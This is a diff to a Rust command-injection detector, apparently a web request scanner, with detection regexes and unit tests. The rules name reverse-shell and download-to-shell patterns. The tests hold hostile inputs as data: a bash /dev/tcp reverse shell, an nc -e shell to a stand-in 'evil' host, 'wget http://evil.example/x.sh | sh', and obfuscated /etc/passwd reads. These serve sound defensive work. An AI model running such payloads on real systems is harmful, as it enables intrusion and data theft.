@@ -14,14 +14,25 @@
 //! command-like words, but not in that shape.
 
 use super::gate::{gated, in_sorted, lit, lower, skip_space, starts_word, word_at};
-use super::{Check, Family, Hit, Rules, Subject, Trigger};
+use super::{
+    in_markdown_code, is_json_text, stronger, Check, Family, Hit, Rules, Subject, Trigger,
+};
 use crate::fields::Field;
-use crate::finding::Severity::{Critical, High};
+use crate::finding::Severity::{Critical, High, Medium};
 use std::borrow::Cow;
 
 pub(crate) struct Cmdi {
     rules: Rules,
+    /// JavaScript that is an injection outside a JSON text field, where code samples do not travel.
+    strict_rules: Rules,
 }
+
+/// Plain JavaScript syntax (`function(){`, `module.exports =`, `console.log(`, `process.env`,
+/// `new Function(`): server-side code injection in a URL, header or form, but what a code snippet
+/// in a JSON text field (a gist, a support ticket) is made of, so only Medium there. What reaches
+/// the runtime or a shell (`child_process`, `process.mainModule`, `constructor.constructor`) is
+/// High anywhere.
+const JS_CODE: &str = r"\bnew\s+function\s*\(|module\s*\.\s*exports\s*=|\bconsole\s*(?:\.\s*[a-z]+|\[\s*['`][a-z]+['`]\s*\])\s*(?:\.\s*call\s*)?\(|\bfunction\s*\(\s*\)\s*\{|process\s*\.\s*env\b";
 
 /// Commands that are an attack after a separator when an argument shape follows (also what the
 /// PHP check looks for in `system(...)`).
@@ -183,6 +194,20 @@ fn sqlite_dot_command(b: &[u8], s: usize, e: usize) -> bool {
     line_start && b.get(e).map_or(true, |c| !c.is_ascii_alphanumeric())
 }
 
+/// Whether a word is a program in a system binary directory (`/bin/unxz`, `/usr/local/sbin/x`).
+fn in_bin_dir(word: &[u8]) -> bool {
+    [
+        "/bin/",
+        "/sbin/",
+        "/usr/bin/",
+        "/usr/sbin/",
+        "/usr/local/bin/",
+        "/usr/local/sbin/",
+    ]
+    .iter()
+    .any(|d| word.len() > d.len() && word[..d.len()].eq_ignore_ascii_case(d.as_bytes()))
+}
+
 /// Gate for Node.js `process`: a member that reaches the runtime follows.
 fn process_member(b: &[u8], _s: usize, e: usize) -> bool {
     matches!(b.get(e), Some(b'.' | b'['))
@@ -190,8 +215,9 @@ fn process_member(b: &[u8], _s: usize, e: usize) -> bool {
 
 impl Cmdi {
     pub fn new() -> Result<Cmdi, String> {
-        // An argument shape: option, path, variable, redirection, glob, or end of the value.
-        let arg = r#"(?:\s+[-/~.$<>*?{%"']|\s*[<>|;&`)]|\s+[a-z0-9_.-]+\s*[|;&<>`)]|\s+[a-z0-9_-]+\.[a-z0-9]{1,5}(?:\s|$)|\s*$)"#;
+        // An argument shape: option, path, variable, redirection, glob, or end of the value. A `+`
+        // separates words where the value is URL-encoded form data (`;cat+/etc/passwd`).
+        let arg = r#"(?:[\s+]+[-/~.$<>*?{%"']|\s*[<>|;&`)]|\s+[a-z0-9_.-]+\s*[|;&<>`)]|\s+[a-z0-9_-]+\.[a-z0-9]{1,5}(?:\s|$)|\s*$)"#;
         // A backquote is not a separator here: Markdown uses it for inline code; substitution is
         // matched on its own below.
         let sep = r"(?:[;|\n\r]|&&|&|\$\(|<\(|\|\|)";
@@ -200,6 +226,8 @@ impl Cmdi {
         let wrapped = format!(r"(?:^|{sep})\s*(?:sudo|nohup|strace|ltrace|nice|timeout\s+\d+[a-z]?|time|env|exec|xargs|watch|busybox)\s+(?:-\S+\s+)*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})\b");
         let start_then_sep = format!(r"^\s*(?:{DANGEROUS})(?:\.exe)?\s*(?:[;|]|&&)");
         let start_cmd = format!(r"^\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})(?:\.exe)?\s+(?:-[a-z-]|/[a-z.]|[a-z0-9_.-]+\.(?:sh|sql|zip|gz|txt|yml|py|pl|rb|exe|bat)\b|-c\b|install\b|all\b|report\b|dump\b|decrypt\b|[a-z]+\s+-)");
+        // `$(` runs a command only when a command follows: `$(document)` is jQuery.
+        let substitution = format!(r"\$\(\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})\b[^)]*\)|(?:^|[^\s`])`\s*(?:/bin/)?(?:whoami|id|uname|cat|ls|sleep|ping|nslookup|curl|wget|sh|bash|echo|dig|cut|ifconfig)\b[^`]*`");
         let base64_js = BASE64_MARKERS.join("|");
         let shell_escape = format!(r"(?:^|[\s:;|\\])!\s*(?:{DANGEROUS})\b");
         let table = [
@@ -209,7 +237,8 @@ impl Cmdi {
             (r#"^\s*['\x22]?\s*\(\s*\)\s*\{\s*:?\s*;?"#, Critical, 0.9, "Shellshock function definition"),
             (r"/dev/(?:tcp|udp)/|\b(?:bash|sh)\s+-i\b|\bnc(?:at)?\b[^|;]*\s-[a-z]*e\s|\bmkfifo\b|\d>&\d|\bexec\s+\d*<>", Critical, 0.95, "reverse shell"),
             (r"\b(?:curl|wget|fetch)\b[^|;]*\|\s*(?:ba|z|k)?sh\b", Critical, 0.95, "download piped to a shell"),
-            (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|env\b|\[)|process\[|process\s*\[\s*['`\x22]|_\$\$nd_func\$\$_|\bconstructor\s*\.\s*constructor\b|\brequire\s*\.\s*main\b|\bnew\s+function\s*\(|module\s*\.\s*exports\s*=|\bconsole\s*(?:\.\s*[a-z]+|\[\s*['`][a-z]+['`]\s*\])\s*(?:\.\s*call\s*)?\(|\brequire\s*\[|__js_function|\bfunction\s*\(\s*\)\s*\{|\beval\s*\(\s*string\s*\.\s*fromcharcode)", High, 0.85, "server-side JavaScript code injection"),
+            (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|\[)|process\[|process\s*\[\s*['`\x22]|_\$\$nd_func\$\$_|\bconstructor\s*\.\s*constructor\b|\brequire\s*\.\s*main\b|\brequire\s*\[|__js_function|\beval\s*\(\s*string\s*\.\s*fromcharcode)", High, 0.85, "server-side JavaScript code injection"),
+            (JS_CODE, Medium, 0.6, "JavaScript code"),
             (r"<!--\s*#\s*(?:exec|include|echo|config|printenv)\b", Critical, 0.9, "server-side include"),
             (r#"\bfor\s+(?:/[a-z]\s+)*(?:(?:["'][^"']*["']|[a-z]:\\\S*)\s+)?%%?\S+\s+in\s*\(.*\)\s*do\b"#, High, 0.85, "Windows batch FOR loop"),
             (r#"\bif\s*(?:/i\s+)?(?:not\s+)?(?:(?:exist|defined)\s+\S|errorlevel\s+\d|cmdextversion\s+\d|\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S|["'\[({%!][^=\s]*\s*==|/i\s+\S+\s*={2,3}\s*\S+\s+\S|(?:not\s+)?\S+\s*={2,3}\s*\S+\s+(?:echo|goto|set|call|cmd|exit|copy|del|type|dir|start|md|cd|rd|@|\())"#, High, 0.8, "Windows batch IF"),
@@ -219,9 +248,11 @@ impl Cmdi {
             (start_then_sep.as_str(), High, 0.8, "command line"),
             (r"(?:^|[;&|\s])[a-z_][a-z0-9_]*=[^\s;&|]*\s*(?:[;|\n]|&&|\|\|)(?:.*(?:[;|\n]|&&|\|\|))?\s*\$\{?[a-z_][a-z0-9_]*\}?(?:\s|$)", High, 0.8, "command from an assigned variable"),
             (r"(?:^|[\s;|&=<>(`+])/(?:(?:[a-z0-9]+[?*]|\*?\?|\*+[a-z0-9])[a-z0-9?*]*/[a-z0-9?*]+|(?:s?bin|usr|etc|dev|proc|tmp|var|home|root)/(?:[a-z0-9]+[?*]|[?*]+[a-z0-9])[a-z0-9?*]*(?:[\s/;|]|$))", High, 0.8, "wildcards in a system path"),
-            (r"\$\(\s*[a-z]+[^)]*\)|(?:^|[^\s`])`\s*(?:/bin/)?(?:whoami|id|uname|cat|ls|sleep|ping|nslookup|curl|wget|sh|bash|echo|dig|cut|ifconfig)\b[^`]*`", Critical, 0.85, "command substitution"),
+            (substitution.as_str(), Critical, 0.85, "command substitution"),
             (r"(?:^|\s)(?:ba|z|k)?sh\s+-c\b|\bcmd(?:\.exe)?\s+/[ck]\b|\bpowershell(?:\.exe)?\s+-(?:c|e|enc|nop|w|command|exec)", High, 0.85, "shell invoked with a command"),
             (start_cmd.as_str(), High, 0.7, "command line"),
+            // A value that starts with a program in a system binary directory and its arguments.
+            (r"^\s*/(?:usr/)?(?:local/)?s?bin/[a-z0-9_.+-]+\s+[-/$~]", High, 0.8, "command line by absolute path"),
             (r"(?:^|[;|&])\s*\d*>>?\s*/(?:tmp|dev|etc|var|usr|s?bin|home|root|proc)/\S", High, 0.8, "redirection into a system path"),
             (shell_escape.as_str(), High, 0.8, "shell escape"),
             (r"[;|&`]\s*[a-z]{1,4}\s*\{?[^}\s]*\}?\s*(?:<<<|>>?\s*/)", High, 0.8, "shell redirection"),
@@ -231,7 +262,10 @@ impl Cmdi {
             (r"(?:\r?\n|^)\s*(?:mail\s+from|rcpt\s+to)\s*:|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:append|status|authenticate|uid|login|select|fetch|store)\b", High, 0.75, "SMTP/IMAP command injection"),
             (r"(?:^|[;\n])\s*\.(?:shell|sh|system|databases|import|load)\b", High, 0.8, "SQLite shell command"),
         ];
-        Ok(Cmdi { rules: Rules::new(Family::Cmdi, &table)? })
+        Ok(Cmdi {
+            rules: Rules::new(Family::Cmdi, &table)?,
+            strict_rules: Rules::new(Family::Cmdi, &[(JS_CODE, High, 0.85, "server-side JavaScript code injection")])?,
+        })
     }
 }
 
@@ -392,13 +426,27 @@ impl Check for Cmdi {
             let first = &text[i..i + word_len];
             return WRAPPERS.iter().any(|w| first.eq_ignore_ascii_case(w.as_bytes())) && is_command(command_word(text, arg, &mut buf));
         }
+        if in_bin_dir(&text[i..i + word_len]) {
+            return true;
+        }
         let w = command_word(text, i, &mut buf);
         !w.is_empty() && is_command(w)
     }
 
     fn check(&self, s: &Subject<'_>) -> Option<Hit> {
         let folded = shell_fold(s.text);
-        self.rules.best_either(s.text, Some(&folded))
+        let hit = self.rules.best_either(s.text, Some(&folded));
+        if !is_json_text(s) {
+            return stronger(hit, self.strict_rules.best(s.text));
+        }
+        // A command quoted as Markdown code in a docs page or ticket is documentation.
+        hit.map(|h| {
+            if in_markdown_code(s.text, h.at) {
+                h.at_most(Medium, 0.5)
+            } else {
+                h
+            }
+        })
     }
 }
 
@@ -449,6 +497,7 @@ mod tests {
                 "$(id)",
                 "; c'a't /et'c'/pas's'wd",
                 "www.google.com;c$@at /et$@c/pas$@swd",
+                "example.org;ca$_t+/etc/host$*s",
                 "127.0.0.1;cat${IFS}/etc/passwd",
                 "() { :;}; /bin/bash -c 'id'",
                 "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
@@ -523,5 +572,46 @@ mod tests {
                 "https://example.com/var/?utm=1&x=2",
             ],
         );
+    }
+
+    #[test]
+    fn javascript_in_a_body_text_field_is_code_not_an_attack() {
+        use crate::fields::Part;
+        for snippet in [
+            "module.exports = function() { return require('path').join(__dirname, 'x'); }",
+            "document.addEventListener('click', function(){ console.log('hi') })",
+            "Use `$(document).ready(function(){ init(); })` in jquery",
+            "The function(){} syntax creates an anonymous function",
+            "read it with process.env.DATABASE_URL and new Function('a', 'return a')",
+            "## Install\n\n```sh\ncurl -fsSL https://get.example.com | sh\nnpm install && npm run build\n```",
+            "Run `ls -la /var/log` then `tail -f /var/log/syslog | grep error`",
+            "Check the distro with `cat /etc/os-release; uname -a` first",
+        ] {
+            assert!(!any_flag_in_json(snippet), "{snippet}");
+        }
+        for v in ["function(){return this}()", "console.log(1)", "process.env"] {
+            assert!(flags("attack.cmdi", v), "{v} in a URL");
+            assert!(
+                flags_at("attack.cmdi", Part::Body, v),
+                "{v} in a form field"
+            );
+        }
+        for v in ["/bin/unxz -c /tmp/x.xz", "/usr/local/bin/foo --all"] {
+            assert!(flags("attack.cmdi", v), "{v}");
+        }
+        assert!(
+            !flags("attack.cmdi", "/usr/bin/python3"),
+            "an interpreter path alone"
+        );
+        for v in [
+            "require('child_process').exec('nc -e /bin/sh evil 4444')",
+            "this.constructor.constructor('return process')().mainModule",
+            "x; cat /etc/passwd",
+            "`id`",
+            "see `x`; cat /etc/passwd",
+            "```\nwget http://evil.example/x.sh | sh",
+        ] {
+            assert!(flags_in_json("attack.cmdi", v), "{v} in a JSON body");
+        }
     }
 }
